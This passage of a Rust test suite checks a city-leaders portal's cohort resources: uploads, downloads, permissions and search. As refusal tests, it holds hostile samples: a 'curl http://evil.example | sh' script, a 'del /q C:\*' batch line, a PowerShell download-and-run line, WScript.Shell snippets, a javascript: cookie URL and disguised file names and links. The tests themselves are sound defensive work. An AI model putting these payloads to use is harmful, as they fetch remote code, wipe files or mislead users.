//! A cohort's resources: files and links added by its members, downloaded only by those who
//! may enter the cohort, removed by their adder, facilitators and staff; and the cohorts'
//! part of the portal's search.

use reqwest::multipart::{Form, Part};

use crate::{
    fixture::{Fixture, SLUG},
    support::{Page, TestApp, Visitor, spawn_app, spawn_app_with},
};

/// Sends the file form as `who`; the page it ends on.
async fn upload(
    who: &Visitor,
    title: &str,
    note: &str,
    file: Option<(&str, Vec<u8>)>,
) -> reqwest::Response {
    let mut form = Form::new()
        .text("title", title.to_owned())
        .text("note", note.to_owned());
    if let Some((name, bytes)) = file {
        form = form.part("file", Part::bytes(bytes).file_name(name.to_owned()));
    }
    who.client
        .post(who.url(&format!("/cohorts/{SLUG}/resources/add-file")))
        .multipart(form)
        .send()
        .await
        .unwrap()
}

/// A small PDF of its own.
fn pdf(text: &str) -> Vec<u8> {
    format!("%PDF-1.4\n% {text}\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
        .into_bytes()
}

async fn count(app: &TestApp, sql: &'static str) -> i64 {
    sqlx::query_scalar(sql)
        .fetch_one(&app.state.pool)
        .await
        .unwrap()
}

async fn resource_id(app: &TestApp, title: &str) -> i64 {
    sqlx::query_scalar("SELECT id FROM cohort_resources WHERE title = $1")
        .bind(title.to_owned())
        .fetch_one(&app.state.pool)
        .await
        .unwrap()
}

#[tokio::test]
async fn a_member_adds_a_file_that_the_cohort_lists_and_downloads_whole_and_in_part() {
    let app = spawn_app().await;
    let net = Fixture::new(&app).await;
    let bytes = pdf("tiered rates for every household");
    let page = Page::of(
        upload(
            &net.member,
            "Tiered rate study",
            "The **2025** study, with the council's questions.",
            Some(("rates.pdf", bytes.clone())),
        )
        .await,
    )
    .await;
    assert_eq!(page.path(), format!("/cohorts/{SLUG}/resources"));
    assert_eq!(
        page.text(".flash"),
        "“Tiered rate study” is added to the resources."
    );
    // Another member sees it: title, type and size, who added it, the note rendered.
    let page = Page::of(
        net.colleague
            .get(&format!("/cohorts/{SLUG}/resources"))
            .await,
    )
    .await;
    assert_eq!(page.status, 200);
    assert_eq!(page.texts(".resource-title"), vec!["Tiered rate study"]);
    assert_eq!(
        page.text(".resource-details"),
        format!("PDF · {} bytes", bytes.len())
    );
    assert_eq!(page.text(".resource-by"), "Advisor A");
    assert_eq!(page.text(".resource-note strong"), "2025");
    let id = resource_id(&app, "Tiered rate study").await;
    let href = format!("/cohorts/{SLUG}/resources/{id}/file");
    assert_eq!(page.attr(".resource-title a", "href"), Some(href.clone()));
    // A plain member does not get to remove what someone else added.
    assert!(!page.has(".resource .danger"));

    let whole = net.colleague.get(&href).await;
    assert_eq!(whole.status(), 200);
    let headers = whole.headers().clone();
    assert_eq!(headers["content-type"], "application/pdf");
    assert_eq!(
        headers["content-disposition"],
        "attachment; filename=\"rates.pdf\""
    );
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(headers["cache-control"], "private, no-store");
    let etag = headers["etag"].to_str().unwrap().to_owned();
    assert_eq!(whole.bytes().await.unwrap().as_ref(), bytes.as_slice());

    let part = net
        .colleague
        .client
        .get(net.colleague.url(&href))
        .header("range", "bytes=2-9")
        .send()
        .await
        .unwrap();
    assert_eq!(part.status(), 206);
    assert_eq!(
        part.headers()["content-range"],
        format!("bytes 2-9/{}", bytes.len()).as_str()
    );
    assert_eq!(part.bytes().await.unwrap().as_ref(), &bytes[2..10]);
    let cached = net
        .colleague
        .client
        .get(net.colleague.url(&href))
        .header("if-none-match", &etag)
        .send()
        .await
        .unwrap();
    assert_eq!(cached.status(), 304);

    // The overview's New resources lead to it.
    let overview = Page::of(net.facilitator.get(&format!("/cohorts/{SLUG}")).await).await;
    assert_eq!(
        overview.texts(".overview-resources li a"),
        vec!["Tiered rate study"]
    );
    assert_eq!(
        overview.attr(".overview-resources li a", "href"),
        Some(href)
    );
}

#[tokio::test]
async fn the_overview_shows_the_three_newest_resources() {
    let app = spawn_app().await;
    let net = Fixture::new(&app).await;
    for (i, title) in ["First", "Second", "Third", "Fourth"].iter().enumerate() {
        // One per second, so that their order is their time.
        sqlx::query(
            "INSERT INTO cohort_resources (cohort_id, title, note, url, added_by, created_at) \
             SELECT c.id, $1, '', 'https://example.org/', p.id, $2 FROM cohorts c, people p \
             WHERE c.slug = $3 AND p.email = 'advisor@a.gov'",
        )
        .bind(title.to_string())
        .bind(1_000 + i as i64)
        .bind(SLUG)
        .execute(&app.state.pool)
        .await
        .unwrap();
    }
    let overview = Page::of(net.member.get(&format!("/cohorts/{SLUG}")).await).await;
    assert_eq!(
        overview.texts(".overview-resources li a"),
        vec!["Fourth", "Third", "Second"]
    );
}

#[tokio::test]
async fn people_who_may_not_enter_the_cohort_get_404_for_its_resources_and_files_even_with_the_etag()
 {
    let app = spawn_app().await;
    let net = Fixture::with(&app).outsider().build().await;
    let page = Page::of(
        upload(
            &net.member,
            "Budget sheet",
            "",
            Some(("budget.csv", b"year,amount\n2026,100\n".to_vec())),
        )
        .await,
    )
    .await;
    assert_eq!(page.text(".resource-details"), "CSV file · 21 bytes");
    let id = resource_id(&app, "Budget sheet").await;
    let href = format!("/cohorts/{SLUG}/resources/{id}/file");
    let etag = net.member.get(&href).await.headers()["etag"]
        .to_str()
        .unwrap()
        .to_owned();
    for (who, visitor) in [
        ("the other city's mayor", &net.other_city),
        ("a member not in the cohort", net.outsider()),
        ("the lapsed city's mayor", &net.lapsed),
    ] {
        for path in [
            format!("/cohorts/{SLUG}/resources"),
            href.clone(),
            format!("/cohorts/{SLUG}/resources/add-file"),
            format!("/cohorts/{SLUG}/resources/{id}/remove"),
        ] {
            assert_eq!(visitor.get(&path).await.status(), 404, "{who}: {path}");
        }
        let cached = visitor
            .client
            .get(visitor.url(&href))
            .header("if-none-match", &etag)
            .send()
            .await
            .unwrap();
        assert_eq!(cached.status(), 404, "{who} with the ETag");
        let refused = visitor
            .client
            .post(visitor.url(&format!("/cohorts/{SLUG}/resources/{id}/remove")))
            .send()
            .await
            .unwrap();
        assert_eq!(refused.status(), 404, "{who} removing it");
    }
    // The public is sent to log in, and gets none of the file.
    let public = app.visitor().get(&href).await;
    assert_eq!(public.url().path(), "/login");
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM cohort_resources").await,
        1
    );
}

#[tokio::test]
async fn a_file_over_25_mb_an_empty_one_one_of_another_type_or_one_without_a_title_is_refused_and_nothing_is_kept()
 {
    let app = spawn_app().await;
    let net = Fixture::new(&app).await;
    let too_large = vec![b'a'; 25 * 1024 * 1024 + 1];
    let page = Page::of(upload(&net.member, "Huge", "", Some(("huge.csv", too_large))).await).await;
    assert_eq!(page.status, 422);
    assert_eq!(
        page.texts(".error-summary li"),
        vec!["The file is larger than 25.0 MB. Add a smaller version, or share a link to it."]
    );
    assert_eq!(page.attr("#title", "value").as_deref(), Some("Huge"));

    let page = Page::of(
        upload(
            &net.member,
            "A page",
            "",
            Some((
                "page.html",
                b"<!DOCTYPE html><html><script>x</script></html>".to_vec(),
            )),
        )
        .await,
    )
    .await;
    assert_eq!(page.status, 422);
    assert!(
        page.text("#file-error")
            .contains("Files of this type are not accepted."),
        "{}",
        page.text("#file-error")
    );

    let page =
        Page::of(upload(&net.member, "Nothing", "", Some(("empty.pdf", Vec::new()))).await).await;
    assert_eq!(page.status, 422);
    assert_eq!(page.text("#file-error"), "Error: The file is empty.");

    let page = Page::of(upload(&net.member, "  ", "", Some(("ok.pdf", pdf("fine")))).await).await;
    assert_eq!(page.status, 422);
    assert_eq!(page.texts(".error-summary li"), vec!["Enter a title."]);

    let page = Page::of(upload(&net.member, "No file", "", None).await).await;
    assert_eq!(page.status, 422);
    assert_eq!(
        page.texts(".error-summary li"),
        vec!["Choose a file to add."]
    );
    assert!(page.html.root_element().html().contains("<title>Error: "));

    assert_eq!(count(&app, "SELECT COUNT(*) FROM files").await, 0);
    assert_eq!(count(&app, "SELECT COUNT(*) FROM file_chunks").await, 0);
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM cohort_resources").await,
        0
    );
}

#[tokio::test]
async fn a_link_must_be_a_web_address_and_a_javascript_one_is_refused() {
    let app = spawn_app().await;
    let net = Fixture::new(&app).await;
    let path = format!("/cohorts/{SLUG}/resources/add-link");
    let page = Page::of(
        net.member
            .post_form(
                &path,
                &[
                    ("title", "Trick"),
                    ("url", "javascript:alert(document.cookie)"),
                    ("note", ""),
                ],
            )
            .await,
    )
    .await;
    assert_eq!(page.status, 422);
    assert_eq!(
        page.texts(".error-summary li"),
        vec![
            "Enter an address beginning with https:// or http://, like https://example.org/report."
        ]
    );
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM cohort_resources").await,
        0
    );
    let page = Page::of(
        net.member
            .post_form(
                &path,
                &[
                    ("title", "EPA affordability guide"),
                    ("url", "https://www.epa.gov/waterfinancecenter"),
                    ("note", "Chapter 3 on tiered rates."),
                ],
            )
            .await,
    )
    .await;
    assert_eq!(page.path(), format!("/cohorts/{SLUG}/resources"));
    assert_eq!(
        page.attr(".resource-title a", "href").as_deref(),
        Some("https://www.epa.gov/waterfinancecenter")
    );
    assert_eq!(page.text(".resource-details"), "Link · www.epa.gov");
    assert_eq!(page.text(".resource-note"), "Chapter 3 on tiered rates.");
    // A link has no file to download.
    let id = resource_id(&app, "EPA affordability guide").await;
    assert_eq!(
        net.member
            .get(&format!("/cohorts/{SLUG}/resources/{id}/file"))
            .await
            .status(),
        404
    );
}

#[tokio::test]
async fn a_member_may_not_remove_what_another_added_but_the_adder_and_the_facilitator_may() {
    let app = spawn_app().await;
    let net = Fixture::new(&app).await;
    upload(&net.member, "Rate study", "", Some(("a.pdf", pdf("a")))).await;
    upload(&net.member, "Second study", "", Some(("b.pdf", pdf("b")))).await;
    let id = resource_id(&app, "Rate study").await;
    let remove = format!("/cohorts/{SLUG}/resources/{id}/remove");
    assert_eq!(net.colleague.get(&remove).await.status(), 403);
    assert_eq!(net.colleague.post_form(&remove, &[]).await.status(), 403);
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM cohort_resources").await,
        2
    );

    let confirm = Page::of(net.member.get(&remove).await).await;
    assert_eq!(confirm.status, 200);
    assert_eq!(confirm.h1(), "Remove “Rate study”?");
    let done = Page::of(net.member.post_form(&remove, &[]).await).await;
    assert_eq!(done.path(), format!("/cohorts/{SLUG}/resources"));
    assert_eq!(
        done.text(".flash"),
        "“Rate study” is removed from the resources."
    );
    assert_eq!(done.texts(".resource-title"), vec!["Second study"]);
    assert_eq!(net.member.get(&remove).await.status(), 404, "it is gone");
    // Its file is given back to the store's sweeper.
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM files WHERE attached = 0").await,
        1
    );

    let second = resource_id(&app, "Second study").await;
    let page = Page::of(
        net.facilitator
            .get(&format!("/cohorts/{SLUG}/resources"))
            .await,
    )
    .await;
    assert!(
        page.has(".resource .danger"),
        "the facilitator may remove it"
    );
    let done = Page::of(
        net.facilitator
            .post_form(&format!("/cohorts/{SLUG}/resources/{second}/remove"), &[])
            .await,
    )
    .await;
    assert_eq!(
        done.text(".flash"),
        "“Second study” is removed from the resources."
    );
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM cohort_resources").await,
        0
    );
    // Staff too, in any cohort.
    upload(&net.colleague, "Third", "", Some(("c.pdf", pdf("c")))).await;
    let third = resource_id(&app, "Third").await;
    let done = Page::of(
        net.staff
            .post_form(&format!("/cohorts/{SLUG}/resources/{third}/remove"), &[])
            .await,
    )
    .await;
    assert_eq!(
        done.text(".flash"),
        "“Third” is removed from the resources."
    );
}

#[tokio::test]
async fn twenty_parallel_uploads_give_twenty_resources_with_their_own_files() {
    let app = spawn_app().await;
    let net = Fixture::new(&app).await;
    let uploads = (0..20).map(|i| {
        let title = format!("Report {i}");
        let bytes = pdf(&format!("report number {i}"));
        let advisor = &net.member;
        async move {
            upload(advisor, &title, "", Some(("report.pdf", bytes)))
                .await
                .status()
                .as_u16()
        }
    });
    let statuses = futures_util::future::join_all(uploads).await;
    assert!(statuses.iter().all(|s| *s == 200), "{statuses:?}");
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM cohort_resources").await,
        20
    );
    assert_eq!(
        count(
            &app,
            "SELECT COUNT(DISTINCT f.id) FROM cohort_resources r JOIN files f ON f.id = r.file_id WHERE f.attached = 1"
        )
        .await,
        20
    );
    assert_eq!(count(&app, "SELECT COUNT(*) FROM files").await, 20);
}

/// A thread of the cohort, written straight to the database: its opening post, a reply, and
/// a hidden reply.
async fn thread(app: &TestApp) {
    let pool = &app.state.pool;
    let author: i64 = sqlx::query_scalar("SELECT id FROM people WHERE email = 'advisor@a.gov'")
        .fetch_one(pool)
        .await
        .unwrap();
    let thread: i64 = sqlx::query_scalar(
        "INSERT INTO cohort_threads (cohort_id, author_id, title, created_at, last_post_at) \
         SELECT id, $1, 'Lifeline rates that worked', 100, 200 FROM cohorts WHERE slug = $2 RETURNING id",
    )
    .bind(author)
    .bind(SLUG)
    .fetch_one(pool)
    .await
    .unwrap();
    for (body, hidden) in [
        ("Our **lifeline** tier kept bills under 2% of income.", None),
        ("We paired it with a shutoff moratorium.", None),
        ("A quetzalcoatl remark a facilitator hid.", Some(300_i64)),
    ] {
        sqlx::query(
            "INSERT INTO cohort_posts (thread_id, author_id, body, created_at, hidden_at) VALUES ($1, $2, $3, 150, $4)",
        )
        .bind(thread)
        .bind(author)
        .bind(body)
        .bind(hidden)
        .execute(pool)
        .await
        .unwrap();
    }
    // Written behind the portal's back: indexed as `portal reindex` would.
    portal::search::reindex(&app.state).await.unwrap();
}

/// The cohorts' things among the results of a search.
const COHORT_HITS: &str = ".result-thread h3, .result-resource h3";

async fn cohort_results(who: &Visitor, q: &str) -> Page {
    let page = Page::of(
        who.client
            .get(who.url("/search"))
            .query(&[("q", q), ("sort", "new")])
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(page.status, 200);
    page
}

#[tokio::test]
async fn a_member_finds_their_cohorts_threads_and_resources_and_nobody_else_does() {
    let app = spawn_app().await;
    let net = Fixture::with(&app).outsider().build().await;
    thread(&app).await;
    upload(
        &net.colleague,
        "Shutoff moratorium ordinance",
        "Model text for a moratorium.",
        Some(("ordinance.pdf", pdf("ordinance"))),
    )
    .await;
    let thread_id: i64 = sqlx::query_scalar("SELECT id FROM cohort_threads")
        .fetch_one(&app.state.pool)
        .await
        .unwrap();

    // A word of a reply finds the thread; a word of a note finds the resource.
    let page = cohort_results(&net.member, "MORATORIUM").await;
    assert_eq!(
        page.texts(COHORT_HITS),
        vec!["Shutoff moratorium ordinance", "Lifeline rates that worked"]
    );
    let links: Vec<String> = {
        let sel = scraper::Selector::parse(".result-thread h3 a, .result-resource h3 a").unwrap();
        page.html
            .select(&sel)
            .map(|a| a.value().attr("href").unwrap().to_owned())
            .collect()
    };
    assert_eq!(
        links,
        vec![
            format!("/cohorts/{SLUG}/resources"),
            format!("/cohorts/{SLUG}/discussion/{thread_id}"),
        ]
    );
    assert!(page.texts(".results .card-meta")[1].starts_with("Discussion in Water Affordability"));
    // Every word counts, wherever it is (title or post).
    let page = cohort_results(&net.member, "lifeline shutoff").await;
    assert_eq!(page.texts(COHORT_HITS), vec!["Lifeline rates that worked"]);
    // Hidden posts are not searched; symbols are not words (nothing to find, no error), and
    // what is typed around them still counts.
    for q in ["quetzalcoatl", "_", "%", "\"*"] {
        let page = cohort_results(&net.member, q).await;
        assert!(page.texts(COHORT_HITS).is_empty(), "{q}");
    }
    for q in ["2%", "lifeline*", "\"tier"] {
        let page = cohort_results(&net.member, q).await;
        assert_eq!(
            page.texts(COHORT_HITS),
            vec!["Lifeline rates that worked"],
            "{q}"
        );
    }
    // Staff find it in every cohort.
    let page = cohort_results(&net.staff, "moratorium").await;
    assert_eq!(page.texts(COHORT_HITS).len(), 2);

    for (who, visitor) in [
        ("the other city's mayor", &net.other_city),
        ("a member not in the cohort", net.outsider()),
        ("the lapsed city's mayor", &net.lapsed),
        ("the public", &app.visitor()),
    ] {
        let page = cohort_results(visitor, "moratorium").await;
        assert!(page.texts(COHORT_HITS).is_empty(), "{who}");
        let main = page.text("main");
        assert!(
            !main.contains("Lifeline") && !main.contains("ordinance"),
            "{who}: {main}"
        );
    }
    // Members are offered the cohorts' kinds as filters; the public and lapsed cities'
    // people are not.
    let offered = |page: &Page| {
        page.texts(".search-kinds a")
            .contains(&"Discussion".to_owned())
    };
    assert!(offered(&cohort_results(net.outsider(), "moratorium").await));
    assert!(!offered(
        &cohort_results(&app.visitor(), "moratorium").await
    ));
    assert!(!offered(&cohort_results(&net.lapsed, "moratorium").await));
}

#[tokio::test]
async fn a_link_shows_the_host_a_browser_goes_to_and_one_with_a_name_before_the_host_is_refused() {
    let app = spawn_app().await;
    let net = Fixture::new(&app).await;
    let path = format!("/cohorts/{SLUG}/resources/add-link");
    // A browser reads `\` as `/`: this address leads to evil.example, not trusted.org, and
    // that is the host shown and the address linked.
    let page = Page::of(
        net.member
            .post_form(
                &path,
                &[
                    ("title", "Mirror"),
                    ("url", "https://evil.example\\@trusted.org"),
                    ("note", ""),
                ],
            )
            .await,
    )
    .await;
    assert_eq!(page.path(), format!("/cohorts/{SLUG}/resources"));
    assert_eq!(
        page.attr(".resource-title a", "href").as_deref(),
        Some("https://evil.example/@trusted.org")
    );
    assert_eq!(page.text(".resource-details"), "Link · evil.example");
    // A name before the host makes an address look as if it led elsewhere.
    let response = net
        .member
        .post_form(
            &path,
            &[
                ("title", "Trick"),
                ("url", "https://trusted.org@evil.example/"),
                ("note", ""),
            ],
        )
        .await;
    assert_eq!(response.status(), 422);
    assert_eq!(
        Page::of(response).await.texts(".error-summary li"),
        vec![
            "Enter an address beginning with https:// or http://, like https://example.org/report."
        ]
    );
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM cohort_resources").await,
        1
    );
}

#[tokio::test]
async fn search_ignores_case_beyond_ascii_the_same_way_on_both_databases() {
    let app = spawn_app().await;
    let net = Fixture::new(&app).await;
    let pool = &app.state.pool;
    let author: i64 = sqlx::query_scalar("SELECT id FROM people WHERE email = 'advisor@a.gov'")
        .fetch_one(pool)
        .await
        .unwrap();
    let thread: i64 = sqlx::query_scalar(
        "INSERT INTO cohort_threads (cohort_id, author_id, title, created_at, last_post_at) \
         SELECT id, $1, 'ÁGUA POTÁVEL PARA TODOS', 100, 200 FROM cohorts WHERE slug = $2 RETURNING id",
    )
    .bind(author)
    .bind(SLUG)
    .fetch_one(pool)
    .await
    .unwrap();
    let post: i64 = sqlx::query_scalar(
        "INSERT INTO cohort_posts (thread_id, author_id, body, created_at) \
         VALUES ($1, $2, 'El ñandú bebe del río.', 150) RETURNING id",
    )
    .bind(thread)
    .bind(author)
    .fetch_one(pool)
    .await
    .unwrap();
    let page = Page::of(
        net.member
            .post_form(
                &format!("/cohorts/{SLUG}/resources/add-link"),
                &[
                    ("title", "Água de reúso"),
                    ("url", "https://example.org/reuso"),
                    ("note", "Guía del ÑANDÚ"),
                ],
            )
            .await,
    )
    .await;
    assert_eq!(page.path(), format!("/cohorts/{SLUG}/resources"));

    // The thread was written behind the portal's back: indexed as `portal reindex` would.
    portal::search::reindex(&app.state).await.unwrap();
    let both = vec!["Água de reúso", "ÁGUA POTÁVEL PARA TODOS"];
    for q in [
        "água",
        "ÁGUA",
        "Água",
        "A\u{301}GUA",
        "ñandú",
        "ÑANDÚ",
        "Ñandú",
    ] {
        let page = cohort_results(&net.member, q).await;
        assert_eq!(page.texts(COHORT_HITS), both, "{q}");
    }
    let page = cohort_results(&net.member, "POTÁVEL río").await;
    assert_eq!(page.texts(COHORT_HITS), vec!["ÁGUA POTÁVEL PARA TODOS"]);
    // Accents still count: "agua" is another word.
    assert!(
        cohort_results(&net.member, "agua")
            .await
            .texts(COHORT_HITS)
            .is_empty()
    );
    // An edited text is searched as it now reads.
    sqlx::query("UPDATE cohort_posts SET body = 'El cóndor vuela.' WHERE id = $1")
        .bind(post)
        .execute(pool)
        .await
        .unwrap();
    portal::search::reindex(&app.state).await.unwrap();
    let page = cohort_results(&net.member, "ÑANDÚ").await;
    assert_eq!(page.texts(COHORT_HITS), vec!["Água de reúso"]);
    let page = cohort_results(&net.member, "CÓNDOR").await;
    assert_eq!(page.texts(COHORT_HITS), vec!["ÁGUA POTÁVEL PARA TODOS"]);
}

/// What `portal demo` made of cohorts (called from the demo's test, in `news`): one of each
/// join policy with facilitators, members of several cities, threads with replies by others,
/// a file and a link, sessions ahead at 11:00 in Chicago; and an advisor in none of them,
/// who finds them, joins the open one and downloads its file.
pub async fn the_demo_cohorts_are_alive(app: &TestApp, report: &portal::demo::Report) {
    let pool = &app.state.pool;
    let cohorts: Vec<(String, String)> =
        sqlx::query_as("SELECT slug, join_policy FROM cohorts ORDER BY id")
            .fetch_all(pool)
            .await
            .unwrap();
    assert_eq!(
        cohorts,
        [
            ("water-affordability", "open"),
            ("data-driven-budgeting", "request"),
            ("new-mayors-circle", "invite"),
        ]
        .map(|(s, p)| (s.to_owned(), p.to_owned()))
    );
    for (slug, _) in &cohorts {
        let one = |sql: &'static str| {
            let slug = slug.clone();
            async move {
                sqlx::query_scalar::<_, i64>(sql)
                    .bind(slug)
                    .fetch_one(pool)
                    .await
                    .unwrap()
            }
        };
        let facilitators = one(
            "SELECT COUNT(*) FROM cohort_members m JOIN cohorts c ON c.id = m.cohort_id \
             JOIN people p ON p.id = m.person_id WHERE c.slug = $1 AND m.role = 'facilitator' \
             AND p.role IN ('staff', 'mayor')",
        )
        .await;
        assert_eq!(facilitators, 2, "{slug}: a staff member and a mayor");
        let cities = one(
            "SELECT COUNT(DISTINCT p.city_id) FROM cohort_members m JOIN cohorts c ON c.id = m.cohort_id \
             JOIN people p ON p.id = m.person_id WHERE c.slug = $1 AND m.role = 'member'",
        )
        .await;
        assert!(cities >= 3, "{slug}: members of {cities} cities");
        let replies_by_others = one(
            "SELECT COUNT(*) FROM cohort_posts po JOIN cohort_threads t ON t.id = po.thread_id \
             JOIN cohorts c ON c.id = t.cohort_id WHERE c.slug = $1 AND po.author_id <> t.author_id",
        )
        .await;
        assert!(replies_by_others >= 2, "{slug}: replies");
        let files = one(
            "SELECT COUNT(*) FROM cohort_resources r JOIN cohorts c ON c.id = r.cohort_id \
             JOIN files f ON f.id = r.file_id WHERE c.slug = $1 AND f.attached = 1",
        )
        .await;
        let links = one(
            "SELECT COUNT(*) FROM cohort_resources r JOIN cohorts c ON c.id = r.cohort_id \
             WHERE c.slug = $1 AND r.url LIKE 'https://%'",
        )
        .await;
        assert_eq!((files, links), (1, 1), "{slug}: a file and a link");
        let sessions: Vec<(String, i64, String, String, i64)> = sqlx::query_as(
            "SELECT s.uid, s.starts_at, s.time_zone, s.call_url, s.sequence FROM cohort_sessions s \
             JOIN cohorts c ON c.id = s.cohort_id WHERE c.slug = $1 ORDER BY s.starts_at",
        )
        .bind(slug.clone())
        .fetch_all(pool)
        .await
        .unwrap();
        assert!(sessions.len() >= 2, "{slug}: sessions");
        let chicago = portal::time::Zone::parse("America/Chicago").unwrap();
        for (uid, starts_at, zone, call_url, sequence) in sessions {
            assert!(uid.starts_with("cohort-session-") && uid.ends_with("@demo"));
            assert!(starts_at > app.state.clock.now(), "{slug}: upcoming");
            assert_eq!(zone, "America/Chicago");
            assert!(chicago.clock(starts_at).starts_with("11:00 AM"));
            assert!(call_url.starts_with("https://meet.example.org/"));
            assert_eq!(sequence, 0);
        }
    }
    // The advisor left out sees the three, joins the open one and gets its file.
    let (_, _, email, password) = report
        .logins
        .iter()
        .find(|l| l.1.starts_with(portal::demo::cohorts::OUTSIDER))
        .unwrap()
        .clone();
    let advisor = app.visitor();
    advisor.log_in(&email, &password).await;
    let list = Page::of(advisor.get("/cohorts").await).await;
    assert_eq!(
        list.texts(".cohort-card .card-title"),
        vec![
            "Data-Driven Budgeting",
            "New Mayors' Circle",
            "Water Affordability"
        ]
    );
    // Before joining he sees the cohort from outside, and nothing inside.
    let outside = Page::of(advisor.get("/cohorts/water-affordability").await).await;
    assert!(outside.has(".cohort-outside"));
    assert!(!outside.has(".overview-resources"));
    assert_eq!(
        advisor
            .get("/cohorts/water-affordability/resources")
            .await
            .status(),
        404
    );
    let joined = advisor
        .post_form("/cohorts/water-affordability/join", &[])
        .await;
    assert_eq!(joined.status(), 200);
    let page = Page::of(advisor.get("/cohorts/water-affordability/resources").await).await;
    assert_eq!(
        page.texts(".resource-title"),
        vec![
            "Tiered rate design: a two-page brief",
            "EPA Water Finance Center"
        ]
    );
    let file = advisor
        .get(&page.attr(".resource-title a", "href").unwrap())
        .await;
    assert_eq!(file.headers()["content-type"], "application/pdf");
    assert!(file.bytes().await.unwrap().starts_with(b"%PDF-1.4"));
    let overview = Page::of(advisor.get("/cohorts/water-affordability").await).await;
    assert_eq!(overview.texts(".overview-resources li a").len(), 2);
}

#[tokio::test]
async fn an_upload_by_someone_removed_while_it_was_sent_is_refused_and_nothing_is_added() {
    let app = spawn_app().await;
    let net = Fixture::new(&app).await;
    // The file arrives in two halves; between them, staff remove the advisor.
    let (halves, rx) = tokio::sync::mpsc::channel::<Result<Vec<u8>, std::io::Error>>(2);
    let body = futures_util::stream::unfold(rx, |mut rx| async move {
        rx.recv().await.map(|piece| (piece, rx))
    });
    let form = Form::new()
        .text("title", "Rate study")
        .text("note", "")
        .part(
            "file",
            Part::stream(reqwest::Body::wrap_stream(body)).file_name("rates.pdf"),
        );
    let sending = {
        let client = net.member.client.clone();
        let url = net
            .member
            .url(&format!("/cohorts/{SLUG}/resources/add-file"));
        tokio::spawn(async move { client.post(url).multipart(form).send().await.unwrap() })
    };
    // A first half larger than a stored chunk: once the store holds a chunk of it, the
    // request is past its door and in the middle of the upload.
    let mut first = pdf("rates");
    first.extend(std::iter::repeat_n(b'%', 300 * 1024));
    first.push(b'\n');
    halves.send(Ok(first)).await.unwrap();
    let mut waited = 0;
    while count(&app, "SELECT COUNT(*) FROM files").await == 0 {
        assert!(waited < 100, "the upload never reached the file store");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        waited += 1;
    }
    let advisor: i64 = sqlx::query_scalar("SELECT id FROM people WHERE email = 'advisor@a.gov'")
        .fetch_one(&app.state.pool)
        .await
        .unwrap();
    let removed = net
        .staff
        .post_form(&format!("/cohorts/{SLUG}/members/{advisor}/remove"), &[])
        .await;
    assert!(removed.status().is_success());
    halves
        .send(Ok(b"%%EOF\n".to_vec()))
        .await
        .expect("the upload was still being read");
    drop(halves);
    let answer = sending.await.unwrap();
    assert_eq!(answer.status(), 404);
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM cohort_resources").await,
        0
    );
}

#[tokio::test]
async fn programs_and_scripts_are_refused_by_their_name_and_by_their_content_with_a_message_on_the_form()
 {
    let app = spawn_app().await;
    let net = Fixture::new(&app).await;
    let message = "Error: Programs and scripts (such as .exe, .bat, .vbs, .ps1 or .js files) \
                   are not accepted, whatever their name. Share a document, a picture or a link.";
    let vbs = b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n".to_vec();
    let by_name = [
        "Budget 2027.vbs",
        "minutes.VBS",
        "install.bat",
        "install.cmd",
        "setup.ps1",
        "page.hta",
        "tool.js",
        "tool.jse",
        "job.wsf",
        "setup.exe",
        "setup.msi",
        "screen.scr",
        "run.com",
        "run.sh",
        "report.pdf.exe",
        // Windows drops trailing dots and spaces: this one runs as a script.
        "report.vbs.",
        // Shown as "…sbv.pdf", stored as what it is.
        "Budget 2027\u{202E}fdp.vbs",
    ];
    for name in by_name {
        let page = Page::of(
            upload(
                &net.member,
                "Rates",
                "",
                Some((name, b"rate,amount\r\n1,2\r\n".to_vec())),
            )
            .await,
        )
        .await;
        assert_eq!(page.status, 422, "{name}");
        assert_eq!(page.text("#file-error"), message, "{name}");
        assert_eq!(page.attr("#title", "value").as_deref(), Some("Rates"));
    }
    // Programs and scripts under the name of a document.
    let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".to_vec();
    exe.resize(512, 0);
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(256, 0);
    let by_content: [(&str, Vec<u8>); 7] = [
        ("report.pdf", exe),
        ("data.csv", elf),
        ("notes.txt", b"#!/bin/sh\ncurl http://evil.example | sh\n".to_vec()),
        ("minutes.txt", vbs),
        ("agenda.csv", b"@echo off\r\ndel /q C:\\*\r\n".to_vec()),
        (
            "plan.txt",
            b"<job><script language=\"JScript\">new ActiveXObject(\"WScript.Shell\")</script></job>"
                .to_vec(),
        ),
        (
            "budget.csv",
            b"\xef\xbb\xbfIEX (New-Object Net.WebClient).DownloadString('http://x')\r\n".to_vec(),
        ),
    ];
    for (name, bytes) in by_content {
        let page = Page::of(upload(&net.member, "Rates", "", Some((name, bytes))).await).await;
        assert_eq!(page.status, 422, "{name}");
        assert_eq!(page.text("#file-error"), message, "{name}");
    }
    assert_eq!(count(&app, "SELECT COUNT(*) FROM files").await, 0);
    assert_eq!(count(&app, "SELECT COUNT(*) FROM file_chunks").await, 0);
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM cohort_resources").await,
        0
    );

    // A spreadsheet that talks about scripts is still a spreadsheet.
    let csv = b"tool,use\r\nPowerShell,reports\r\nJavaScript,the website\r\n".to_vec();
    let page = Page::of(upload(&net.member, "Tools", "", Some(("tools.csv", csv))).await).await;
    assert_eq!(page.path(), format!("/cohorts/{SLUG}/resources"));
}

#[tokio::test]
async fn bidirectional_controls_are_taken_out_of_a_stored_file_name() {
    let app = spawn_app().await;
    let net = Fixture::new(&app).await;
    let page = Page::of(
        upload(
            &net.member,
            "Budget",
            "",
            Some((
                "\u{202B}Budget\u{2066} 2027\u{202E}fdp\u{200F}.csv\u{061C}",
